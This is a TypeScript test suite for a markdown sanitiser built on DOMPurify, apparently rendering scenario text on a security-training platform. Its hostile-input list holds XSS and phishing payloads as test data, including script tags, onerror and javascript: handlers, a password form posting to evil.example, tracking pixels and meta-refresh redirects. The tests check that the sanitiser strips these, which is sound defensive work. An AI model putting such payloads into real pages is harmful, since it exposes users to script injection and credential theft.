import { expect } from 'chai';
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { markdownRenderer } from './markdown.ts';

describe('scenario markdown sanitiser', () => {
  const { window } = new JSDOM('<!doctype html><html><body></body></html>');
  const render = markdownRenderer(createDOMPurify(window));
  const html = (source: string, inline = false) => {
    const div = window.document.createElement('div');
    div.append(render(source, inline));
    return div;
  };
  const PNG =
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

  it('keeps what authors need: headings, emphasis, lists, code, tables, links, inline images', () => {
    const div = html(
      [
        '# Mission',
        '',
        'Find **the flag** in `/srv/www`, see [the docs](https://example.org/docs) or <mailto:help@example.org>.',
        '',
        '- one',
        '- two',
        '',
        '| a | b |',
        '|:--|--:|',
        '| 1 | 2 |',
        '',
        '```sh',
        'nmap -sV 10.0.0.1',
        '```',
        '',
        `![diagram](${PNG})`,
      ].join('\n'),
    );
    for (const tag of ['h1', 'strong', 'code', 'ul', 'li', 'table', 'th', 'td', 'pre', 'img'])
      expect(div.querySelector(tag), tag).to.not.equal(null);
    const link = div.querySelector('a[href="https://example.org/docs"]')!;
    expect(link.getAttribute('target')).to.equal('_blank');
    expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
    expect(div.querySelector('img')!.getAttribute('src')).to.equal(PNG);
    expect(div.querySelector('img')!.getAttribute('alt')).to.equal('diagram');
  });

  const hostile: [string, string][] = [
    [
      'a phishing form posting elsewhere',
      '<form action="https://evil.example/steal" method="post"><label>Password <input name="p" type="password"></label><button>Sign in</button><select><option>x</option></select><textarea>t</textarea></form>',
    ],
    ['page-wide CSS', '<style>body { display: none } .topbar { background: red }</style>\n\nText'],
    ['style attributes', '<p style="position:fixed;inset:0;background:white">Session expired</p>'],
    ['classes of the console', '<div class="modal topbar" id="app">fake</div>'],
    ['external images', '![tracker](https://evil.example/pixel.png) <img src="//evil.example/x.png">'],
    ['an SVG image as data', '![svg](data:image/svg+xml;base64,PHN2Zy8+)'],
    [
      'srcset and lazy loading tricks',
      '<img srcset="https://evil.example/a.png 1x" src="x.png" loading="lazy">',
    ],
    [
      'frames and embeds',
      '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    ],
    [
      'media',
      '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio src="a.mp3"></audio>',
    ],
    [
      'scripts and handlers',
      '<script>alert(1)</script><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>',
    ],
    ['SVG and MathML', '<svg><image href="https://evil.example/i.png"/></svg><math><mi>x</mi></math>'],
    [
      'link, meta and base',
      '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    ],
    ['data and blob links', '[x](data:text/html,<script>alert(1)</script>) [y](blob:https://x/1)'],
    ['a GFM task list (checkboxes are inputs)', '- [x] done\n- [ ] todo'],
    [
      'templates and custom elements',
      '<template><form></form></template><x-widget src="https://evil.example"></x-widget>',
    ],
  ];
  for (const [name, source] of hostile) {
    it(`removes ${name}`, () => {
      for (const inline of [false, true]) {
        const div = html(source, inline);
        const out = div.innerHTML;
        expect(
          div.querySelector(
            'form, input, button, select, textarea, option, label, style, iframe, object, embed, video, audio, script, svg, math, link, meta, base, template, x-widget',
          ),
          out,
        ).to.equal(null);
        for (const element of div.querySelectorAll('*')) {
          for (const attr of element.getAttributeNames())
            expect(
              ['href', 'title', 'alt', 'src', 'colspan', 'rowspan', 'align', 'start', 'target', 'rel'],
              out,
            ).to.include(attr);
          const url = element.getAttribute('src') ?? element.getAttribute('href');
          if (url !== null)
            expect(url, out).to.match(/^(https?:\/\/|mailto:|#|data:image\/(png|gif|jpeg|webp);base64,)/);
        }
        for (const img of div.querySelectorAll('img[src]'))
          expect(img.getAttribute('src')).to.match(/^data:image\//);
        expect(out).to.not.match(/evil\.example\/(pixel|x|a|i|p|s)\./);
        expect(out).to.not.contain('javascript:');
      }
    });
  }

  it('keeps the text of removed elements readable (a form becomes plain text)', () => {
    const div = html('<form action="https://evil.example"><b>Enter your password</b></form>');
    expect(div.textContent).to.contain('Enter your password');
  });
});
